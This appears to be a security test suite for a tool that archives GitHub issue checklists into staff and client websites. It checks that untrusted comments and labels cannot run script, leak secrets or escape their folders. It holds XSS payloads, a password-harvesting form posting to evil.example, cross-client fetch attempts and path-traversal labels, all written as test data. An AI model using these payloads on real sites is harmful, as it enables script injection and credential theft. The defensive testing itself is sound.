import { existsSync, readFileSync, statSync } from 'node:fs';
import { readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveDirectory } from '../scripts/static-server.ts';
import { checkClientSite, findLeaks } from '../src/site/leak-check.ts';
import { type GitHubStandin, startGitHubStandin } from '../standins/github/server.ts';
import { FIXTURE_MSP } from './helpers/fixture-msp.ts';
import { FIXTURE_REPOSITORY, standinEnv } from './helpers/standin-env.ts';
import { buildCheckout, git, makeCheckout, removeCheckout } from './helpers/temp-checkout.ts';
import { runBinder } from './helpers/temp-repo.ts';

/**
 * Issue data is untrusted input: what a comment, label or marker says cannot run code on a site,
 * leak, escape its folder, publish a secret or erase work. Each finding of the issue is tried
 * here as an attacker or a careless technician would, end to end: the GitHub stand-in, the real
 * CLI, real git, real Astro builds and a real Chromium.
 */

const PAYLOADS = [
  '<script>fetch("/clients/globex-law/binder/network/").then(r=>r.text()).then(t=>alert(t.length))</script>',
  '<img src=x onerror="alert(\'img\')">',
  '<svg onload="alert(\'svg\')"><circle r="5"/></svg>',
  '<iframe srcdoc="<script>parent.alert(\'iframe\')</script>"></iframe>',
  '<details ontoggle="alert(\'details\')" open><summary>open me</summary>toggled</details>',
  '<a href="javascript:alert(\'link\')">raw link</a>',
  "[markdown link](javascript:alert('md'))",
  '<form action="https://evil.example/steal"><input type="password" name="pw" placeholder="Portal password"><button>Log in</button></form>',
  'An unclosed comment starts here <!-- and would hide every later comment',
];
const CONTENT_PAYLOAD_FILE = 'content/clients/acme-dental/binder/pasted.md';
const CONTENT_PAYLOAD_SECTION = `---\ntitle: Pasted from the old wiki\norder: 90\n---\n${[
  'Kept from the old wiki: <kbd>Ctrl</kbd>+<kbd>Alt</kbd>, <abbr title="Uninterruptible power supply">UPS</abbr>.',
  // An image that cannot load, so an `onerror` that survived would run (a relative `src=x` would
  // fail the build's link check instead: `binder check` reports it).
  ...PAYLOADS.filter((payload) => !payload.includes('unclosed comment')).map((payload) =>
    payload.replace('src=x', 'src="https://example.invalid/x.png"'),
  ),
  '<img src="https://example.invalid/ups.png" onerror="fetch(\'/clients/globex-law/binder/admin-access/\')">',
  '<style>main{display:none}</style>',
  'The end of the pasted page.',
].join('\n\n')}\n`;
const STAFF_ONLY = 'The server closet key is kept under the plant pot by reception.';
const FOR_CLIENT = 'For the client: we recommend replacing the nine-year-old switch in the front office.';
const PASSWORD = 'Kibble#2024-Tr0ub4dor';
/** Secrets as people write them (bold keyword, "changed … to", `admin/…`): each must be in no file and no commit. */
const WRITTEN_SECRETS = ['Biscuit-5531', 'Gr4vel&Tide9', 'Lantern2031!'];
/** What a technician typed into item lines: a reworded template item and an item of their own. */
const TYPED_ITEM = 'the spare closet key hangs behind the water heater';
const ADDED_ITEM = "Re-imaged the reception PC after malware from the owner's son's USB stick";
const BOLD_FOR_CLIENT = '**For the client:** the UPS held the load for 41 minutes in its self-test.';
const GITHUB_TOKEN = `ghp_${'Qw9'.repeat(12)}`;
const OUTSIDER = 'Cheap pills at pills-spam.example, visit now';

let root: string;
let standin: GitHubStandin;
let browser: Browser;
let staffDist: string;
let clientDist: string;
let archiveOutput = '';
const crafted: Record<string, number> = {};
const escapeTarget = () => path.resolve(root, '..', 'x');
/** The escape target as it was before the attacks (another program may own a file of that name). */
let escapeTargetBefore: string | undefined;
const describeFile = (file: string) =>
  existsSync(file) ? `${statSync(file).mtimeMs}:${readFileSync(file, 'utf8')}` : undefined;

function marker(key: string): string {
  return `<!-- msp-binder {"v":2,"key":"${key}","template":"monthly","due":"2026-12-08"} -->`;
}

beforeAll(async () => {
  root = await makeCheckout(FIXTURE_MSP, { git: true });
  escapeTargetBefore = describeFile(escapeTarget());
  standin = await startGitHubStandin({ repository: FIXTURE_REPOSITORY });
  const env = standinEnv(standin, FIXTURE_REPOSITORY);
  expect((await runBinder(root, ['sync', '--month', '2026-12'], env)).code).toBe(0);
  const onsite = standin
    .issues()
    .find((issue) => issue.title === 'Acme Dental Group · onsite maintenance · 2026-12');
  if (!onsite?.body) throw new Error('no onsite issue');
  standin.editIssueBody(
    onsite.number,
    `${onsite.body.replace(/- \[ \] (Run the UPS self-test[^<]*?)( <!--)/, `- [x] $1 (${TYPED_ITEM})$2`)}- [x] ${ADDED_ITEM}\n`,
    'jane-tech',
  );
  let minute = 0;
  const at = () => new Date(Date.UTC(2026, 11, 8, 15, minute++));
  for (const payload of PAYLOADS) standin.addComment(onsite.number, `Checked. ${payload}`, 'jane-tech', at());
  standin.addComment(onsite.number, STAFF_ONLY, 'jane-tech', at());
  standin.addComment(onsite.number, FOR_CLIENT, 'jane-tech', at());
  standin.addComment(
    onsite.number,
    'For the client: all done. <img src=x onerror="alert(\'client\')"> <svg onload="alert(\'client svg\')"></svg>',
    'jane-tech',
    at(),
  );
  standin.addComment(
    onsite.number,
    `Reset the NAS. Admin password: ${PASSWORD} token ${GITHUB_TOKEN}`,
    'jane-tech',
    at(),
  );
  standin.addComment(
    onsite.number,
    `**Wi-Fi password**: ${WRITTEN_SECRETS[0]}. Changed the admin password to ${WRITTEN_SECRETS[1]} today. router admin/${WRITTEN_SECRETS[2]}`,
    'jane-tech',
    at(),
  );
  standin.addComment(onsite.number, BOLD_FOR_CLIENT, 'jane-tech', at());
  standin.addComment(
    onsite.number,
    'Photo of the rack: ![rack](./rack.jpg) and [the old page](../../nowhere/)',
    'jane-tech',
    at(),
  );
  standin.addComment(onsite.number, OUTSIDER, 'spam-bot-9000', at(), 'NONE');
  standin.closeIssue(onsite.number, {
    reason: 'completed',
    login: 'jane-tech',
    at: new Date('2026-12-08T19:00:00Z'),
  });
  crafted.onsite = onsite.number;

  // Crafted keys: traversal in labels and markers, another client's key, impossible months, unknown clients.
  const seed = (name: string, key: string, labels: string[]) => {
    crafted[name] = standin.seedIssue({
      title: `Crafted ${name}`,
      body: `${marker(key)}\n- [x] Client check-in with the office manager <!-- item:checkin-contact -->\n<script>alert('${name}')</script>\n`,
      labels: ['checklist', ...labels],
    });
    standin.closeIssue(crafted[name] ?? 0, { reason: 'completed', login: 'jane-tech' });
  };
  seed('client-traversal', '../../../x/2026-12/onsite', [
    'client:../../../x',
    'month:2026-12',
    'tier:onsite',
  ]);
  seed('month-traversal', 'acme-dental/../../../src/pages/welcome/onsite', [
    'client:acme-dental',
    'month:../../../src/pages/welcome',
    'tier:onsite',
  ]);
  seed('cross-client', 'globex-law/2026-10/onsite', ['client:acme-dental', 'month:2026-10', 'tier:onsite']);
  seed('month-13', 'acme-dental/2026-13/onsite', ['client:acme-dental', 'month:2026-13', 'tier:onsite']);
  seed('ghost', 'ghost/2026-11/onsite', ['client:ghost', 'month:2026-11', 'tier:onsite']);
  seed('uppercase', 'Harbor-Dental/2026-11/onsite', ['client:Harbor-Dental', 'month:2026-11', 'tier:onsite']);
  // The marker alone (its client, month and tier labels removed), and two client labels.
  seed('marker-only', 'globex-law/2026-10/onsite', []);
  seed('two-clients', 'acme-dental/2026-10/onsite', [
    'client:acme-dental',
    'client:globex-law',
    'month:2026-10',
    'tier:onsite',
  ]);

  const archive = await runBinder(root, ['archive', '--since', '2026-01-01', '--commit'], env);
  archiveOutput = `${archive.stdout}\n${archive.stderr}`;
  expect(archive.code, archiveOutput).toBe(0);

  // Content files are input too: a binder section as a pull request could bring it (issue
  // "Adopted by a real MSP"). Written only for the builds: `sync` skips a client whose files fail
  // `check`, and the archive tests above compare the repository's state.
  await writeFile(path.join(root, CONTENT_PAYLOAD_FILE), CONTENT_PAYLOAD_SECTION);
  staffDist = (await buildCheckout(root)).dist;
  clientDist = (await buildCheckout(root, { client: 'acme-dental' })).dist;
  await rm(path.join(root, CONTENT_PAYLOAD_FILE));
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
  });
}, 600_000);

afterAll(async () => {
  await browser?.close();
  await standin?.close();
  if (root) await removeCheckout(root);
});

/** Whether a built site holds a text anywhere (HTML, JS, Pagefind's compressed index). */
async function siteHolds(dist: string, text: string): Promise<boolean> {
  return (await findLeaks(dist, [{ text: text.toLowerCase(), source: 'probe', token: false }])).length > 0;
}

/** Opens a page in Chromium, toggles its details, and reports dialogs, requests and risky DOM. */
async function openAndProbe(url: string) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(url, { waitUntil: 'networkidle' });
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = !details.open;
  });
  await page.waitForTimeout(300);
  const dom = await page.evaluate(() => {
    const main = document.querySelector('main') ?? document.body;
    return {
      handlers: [...main.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter((attribute) => attribute.name.startsWith('on'))
          .map((attribute) => `${element.tagName}.${attribute.name}`),
      ),
      dangerous: main.querySelectorAll(
        'script, iframe, object, embed, form, input:not([type=checkbox]), base, meta',
      ).length,
      javascriptLinks: [...main.querySelectorAll('a')].filter((a) =>
        /^\s*javascript:/i.test(a.getAttribute('href') ?? ''),
      ).length,
      // In the page's content (the site's own icons carry a style of their own).
      styles: [...main.querySelectorAll('.sl-markdown-content :is(style, [style]:not(th, td))')].map(
        (element) => element.outerHTML.slice(0, 200),
      ),
      visible: getComputedStyle(main).display !== 'none',
      text: main.textContent ?? '',
    };
  });
  await context.close();
  return { dialogs, requests, dom };
}

describe('issue data is untrusted input', () => {
  it('writes archives only inside content/checklists/<existing client>/, whatever labels and markers say', async () => {
    const changed = (await git(root, 'show', '--name-only', '--format=', 'HEAD')).trim().split('\n');
    expect(changed).toEqual(['content/checklists/acme-dental/2026-12-onsite.md']);
    expect(await git(root, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(describeFile(escapeTarget())).toBe(escapeTargetBefore);
    expect(existsSync(path.join(root, 'src/pages/welcome-onsite.md'))).toBe(false);
    expect(existsSync(path.join(root, 'content/checklists/globex-law'))).toBe(false);
    for (const name of Object.keys(crafted).filter((name) => name !== 'onsite'))
      expect(archiveOutput).toMatch(new RegExp(`#${crafted[name]} [^\\n]*NOT archived`));
  });

  it('refuses a crafted issue named with --issue: exit 1, one clear line, nothing written', async () => {
    const env = standinEnv(standin, FIXTURE_REPOSITORY);
    for (const name of [
      'client-traversal',
      'month-traversal',
      'cross-client',
      'month-13',
      'ghost',
      'uppercase',
      'marker-only',
      'two-clients',
    ]) {
      const result = await runBinder(root, ['archive', '--issue', String(crafted[name])], env);
      expect(result.code, name).toBe(1);
      expect(result.stdout, name).toMatch(/NOT archived/);
      expect(result.stderr, name).not.toMatch(/internal error|\n\s+at /);
    }
    expect(await git(root, 'status', '--porcelain', '--untracked-files=all')).toBe('');
  });

  it('a secret pasted in a comment is in no file and no commit, and the issue asks for it to be rotated', async () => {
    const history = await git(root, 'log', '-p', '--all');
    for (const secret of [PASSWORD, GITHUB_TOKEN, ...WRITTEN_SECRETS]) {
      expect(history).not.toContain(secret);
      for (const dir of [path.join(root, 'content'), staffDist, clientDist])
        expect(await siteHolds(dir, secret), `${dir} holds the secret`).toBe(false);
    }
    const archived = await readFile(
      path.join(root, 'content/checklists/acme-dental/2026-12-onsite.md'),
      'utf8',
    );
    expect(archived).toContain('[redacted: looks like a password; store it in the password manager]');
    const reminders = standin
      .commentsOf(crafted.onsite ?? 0)
      .filter((comment) => /rotate the secret/.test(comment.body));
    expect(reminders).toHaveLength(1);
  });

  it('staff-only comments stay on the staff site; a “For the client:” comment is on both, Pagefind included', async () => {
    expect(await siteHolds(staffDist, STAFF_ONLY)).toBe(true);
    expect(await siteHolds(clientDist, STAFF_ONLY)).toBe(false);
    expect(await siteHolds(staffDist, 'we recommend replacing the nine-year-old switch')).toBe(true);
    expect(await siteHolds(clientDist, 'we recommend replacing the nine-year-old switch')).toBe(true);
    expect(await siteHolds(path.join(clientDist, 'pagefind'), 'nine-year-old switch')).toBe(true);
    // Bold, as the issue body itself shows the phrase.
    expect(await siteHolds(clientDist, 'the UPS held the load for 41 minutes')).toBe(true);
  });

  it('what a technician typed into item lines is on the staff site only: the client reads the template’s words', async () => {
    for (const typed of [TYPED_ITEM, ADDED_ITEM]) {
      expect(await siteHolds(staffDist, typed), typed).toBe(true);
      expect(await siteHolds(clientDist, typed), typed).toBe(false);
    }
    const page = await readFile(
      path.join(clientDist, 'clients/acme-dental/checklists/2026-12-onsite/index.html'),
      'utf8',
    );
    expect(page).toContain('Run the UPS self-test and note the runtime');
  });

  it('ignores comments by people who are not owners, members or collaborators', async () => {
    expect(archiveOutput).toMatch(
      /1 comment\(s\) by people who are not owners, members or collaborators were left out/,
    );
    expect(await siteHolds(staffDist, 'pills-spam.example')).toBe(false);
  });

  it('nothing from an issue breaks a build: relative images and links become text', async () => {
    const page = await readFile(
      path.join(staffDist, 'clients/acme-dental/checklists/2026-12-onsite/index.html'),
      'utf8',
    );
    expect(page).toContain('[image: rack]');
    expect(page).not.toMatch(/src="\.\/rack\.jpg"|href="\.\.\/\.\.\/nowhere/);
  });

  it('HTML comments in content never ship, on the staff site or the client’s', async () => {
    for (const dist of [staffDist, clientDist])
      expect(await siteHolds(dist, 'the NAS admin is shared with the dentist at home')).toBe(false);
  });

  it('the client’s site passes the leak check, archives and images included', async () => {
    const { leaks } = await checkClientSite(root, clientDist, 'acme-dental');
    expect(leaks).toEqual([]);
  });

  it.each(['staff', 'client'])(
    'the %s site runs none of a binder section’s HTML payloads in Chromium',
    async (variant) => {
      const server = await serveDirectory(variant === 'staff' ? staffDist : clientDist);
      try {
        const { dialogs, requests, dom } = await openAndProbe(
          `${server.url}/clients/acme-dental/binder/pasted/`,
        );
        expect(dialogs).toEqual([]);
        expect(requests.filter((url) => url.includes('/clients/globex-law'))).toEqual([]);
        expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
        expect(dom.handlers).toEqual([]);
        expect(dom.dangerous).toBe(0);
        expect(dom.javascriptLinks).toBe(0);
        expect(dom.styles).toEqual([]);
        expect(dom.visible).toBe(true);
        expect(dom.text).toContain('The end of the pasted page.');
        expect(dom.text).toContain('UPS');
      } finally {
        await server.close();
      }
    },
  );

  it.each(['staff', 'client'])(
    'the %s checklist page runs none of the payloads in Chromium',
    async (variant) => {
      const server = await serveDirectory(variant === 'staff' ? staffDist : clientDist);
      try {
        // Every details element toggled, so a payload hidden behind one would run too.
        const { dialogs, requests, dom } = await openAndProbe(
          `${server.url}/clients/acme-dental/checklists/2026-12-onsite/`,
        );
        expect(dialogs).toEqual([]);
        expect(requests.filter((url) => url.includes('/clients/globex-law'))).toEqual([]);
        expect(dom.handlers).toEqual([]);
        expect(dom.dangerous).toBe(0);
        expect(dom.javascriptLinks).toBe(0);
        if (variant === 'staff') {
          // The comment after the unclosed `<!--` is still there.
          expect(dom.text).toContain('plant pot by reception');
          expect(dom.text).toContain('raw link');
        }
      } finally {
        await server.close();
      }
    },
  );
});
